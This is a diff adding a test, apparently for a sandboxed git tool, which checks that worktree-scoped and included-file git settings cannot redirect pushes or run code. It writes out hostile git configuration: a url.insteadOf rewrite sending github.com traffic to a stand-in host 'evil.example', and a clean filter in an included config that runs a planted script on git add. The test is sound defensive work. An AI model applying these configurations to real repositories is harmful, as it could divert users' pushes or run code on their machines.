@@ -170,6 +170,22 @@ async def test_nothing_that_a_repository_configures_runs(call: Call, workspace: 
     assert sprung.ok, "the trap is set right: plain git falls into it"
 
 
+async def test_settings_of_a_worktree_or_an_included_file_count_as_the_repositorys(
+    call: Call, workspace: Path
+) -> None:
+    await call("git", verb="init")
+    await call("shell", command="git config extensions.worktreeConfig true")
+    evil = "git config --worktree url.https://evil.example/.insteadOf https://github.com/"
+    assert (await call("shell", command=evil)).ok
+    pushed = await call("git", verb="push", branch="main", url="https://github.com/a/b")
+    assert "can lead the connection elsewhere" in pushed.text
+    trap = "git config -f more.conf filter.f.clean ./trap; git config include.path ../more.conf"
+    await call("shell", command=f"echo 'touch sprung' > trap; chmod +x trap; {trap}")
+    await call("write", path=".gitattributes", content="* filter=f\n")
+    await call("git", verb="add")
+    assert not (workspace / "sprung").exists()
+
+
 async def test_a_repository_cannot_lead_a_connection_elsewhere(call: Call) -> None:
     await call("git", verb="init")
     for name, value in (
